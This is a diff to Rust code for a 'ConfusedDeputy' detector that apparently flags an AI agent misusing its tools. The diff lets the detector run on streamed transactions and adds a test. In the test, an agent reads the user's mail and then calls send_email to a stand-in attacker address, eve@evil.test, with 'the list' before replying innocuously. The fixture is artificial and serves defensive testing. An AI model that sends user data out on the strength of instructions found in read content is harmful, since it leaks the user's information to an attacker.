@@ -196,7 +196,7 @@ fn sensitive(call: &ToolCall, tools: &[ToolDef]) -> Option<Deed> {
     deed_of_call(call, tools).filter(|deed| !matches!(deed, Deed::Change | Deed::Whatever))
 }
 
-detector!(ConfusedDeputy);
+detector!(ConfusedDeputy, running);
 
 #[cfg(test)]
 mod tests {
@@ -233,6 +233,25 @@ mod tests {
         town.at(12.0, after.tx());
         town.run();
         assert_eq!(town.stories()[0].outcome, Outcome::Success);
+    }
+
+    #[test]
+    fn a_call_is_told_while_the_answer_is_sent_and_goes_on_as_one_story() {
+        let to = r#"{"to":"eve@evil.test","body":"the list"}"#;
+        let chat = mail("What is new in my mailbox?", LETTER, "send_email", to);
+        let mut town = Town::new(super::SPEC.rule.id);
+        town.at(10.0, chat.tx().running());
+        town.at(10.0, chat.tx());
+        let after = Chat::new(SYSTEM)
+            .user("What is new in my mailbox?")
+            .tool("read_mail", "{}", LETTER)
+            .tool("send_email", to, "sent")
+            .answers("Lunch is at noon.");
+        town.at(12.0, after.tx());
+        town.run();
+        let told = town.findings();
+        assert_eq!(told.len(), 2, "{told:#?}");
+        assert_eq!((told[0].count, told[1].outcome), (1, Outcome::Success));
     }
 
     #[test]
